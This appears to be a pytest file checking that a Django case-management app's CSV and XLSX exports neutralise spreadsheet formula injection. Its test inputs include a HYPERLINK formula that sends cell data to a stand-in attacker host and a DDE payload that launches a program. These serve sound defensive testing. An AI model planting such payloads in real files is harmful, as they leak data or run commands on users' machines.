"""Formula injection: a cell that a spreadsheet would run is neutralised, in CSV and XLSX."""

import pytest

from cases import exports
from cases.models import RescueRequest, Victim
from tests.factories import make_request, make_victim
from tests.security.exports.support import (
    DANGEROUS_STARTS,
    csv_rows,
    download,
    signed_in,
    xlsx_cells,
    xlsx_rows,
)

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("start", DANGEROUS_STARTS, ids=repr)
def test_a_cell_starting_with_a_formula_character_is_neutralised_in_csv(org_a, start):
    payload = f'{start}HYPERLINK("http://attacker.example/?x="&A1,"Click")'
    victim = make_victim(organization=org_a.organization, created_by=org_a.caseworker, full_name=payload)
    Victim.objects.filter(pk=victim.pk).update(closed_reason=f"{start}1+1")  # a second free-text column

    _, body = download(signed_in(org_a.supervisor, org_a.organization), "cases:export_victims", "csv")
    header, row = csv_rows(body)
    record = dict(zip(header, row, strict=True))

    assert record["full name"] == "'" + payload
    assert record["reason for closing"] == f"'{start}1+1"
    assert not any(cell.startswith(tuple(DANGEROUS_STARTS)) for cell in row)


@pytest.mark.parametrize("start", DANGEROUS_STARTS, ids=repr)
def test_a_cell_starting_with_a_formula_character_is_neutralised_in_xlsx(org_a, start):
    payload = f"{start}cmd|' /C calc'!A0"
    victim = make_victim(organization=org_a.organization, created_by=org_a.caseworker, full_name=payload)
    request = make_request(victim=victim, opened_by=org_a.caseworker)
    RescueRequest.objects.filter(pk=request.pk).update(outcome=f"{start}SUM(1,2)")
    client = signed_in(org_a.supervisor, org_a.organization)

    _, victims_body = download(client, "cases:export_victims", "xlsx")
    _, requests_body = download(client, "cases:export_requests", "xlsx")

    for body, expected in ((victims_body, "'" + payload), (requests_body, f"'{start}SUM(1,2)")):
        cells = xlsx_cells(body)
        # XML reads a carriage return back as a line feed: compare modulo that; the leading ' is what matters.
        assert expected.replace("\r", "\n") in [cell.value for cell in cells]
        assert not any(cell.data_type == "f" for cell in cells)  # no cell is stored as a formula
        assert not any(isinstance(c.value, str) and c.value.startswith(tuple(DANGEROUS_STARTS)) for c in cells)


def test_neutralise_leaves_ordinary_text_alone_and_covers_full_width_signs_and_leading_spaces():
    assert exports.neutralise("Alpha Person") == "Alpha Person"
    assert exports.neutralise("a=b") == "a=b"
    assert exports.neutralise("＝1+1") == "'＝1+1"
    assert exports.neutralise("  =1+1") == "'  =1+1"
    assert exports.neutralise("\u00a0@SUM(A1)") == "'\u00a0@SUM(A1)"


def test_characters_xml_cannot_hold_do_not_break_the_xlsx(org_a):
    victim = make_victim(organization=org_a.organization, created_by=org_a.caseworker, full_name="Name")
    Victim.objects.filter(pk=victim.pk).update(full_name="Bad\x07Name")

    _, body = download(signed_in(org_a.supervisor, org_a.organization), "cases:export_victims", "xlsx")

    assert "BadName" in [cell.value for cell in xlsx_cells(body)]


@pytest.mark.parametrize("value", ["\0=1+1", "\0plain", "\x07=1+1"], ids=repr)
def test_a_leading_nul_or_a_formula_behind_a_stripped_control_character_is_quoted(org_a, value):
    # PostgreSQL cannot store NUL, so this goes through the writers directly (it could come from any future source).
    organization = org_a.organization
    csv_text = "".join(exports.csv_lines(header=["h"], rows=[[value]], organization=organization))
    xlsx_body = exports.xlsx_file(title="t", header=["h"], rows=[[value]], organization=organization).read()

    csv_cell_value = csv_rows(csv_text.encode())[1][0]
    xlsx_cell_value = xlsx_rows(xlsx_body)[1][0]
    if value.startswith("\0"):
        assert csv_cell_value == "'" + value
    assert xlsx_cell_value.startswith("'") and "\x07" not in xlsx_cell_value and "\0" not in xlsx_cell_value
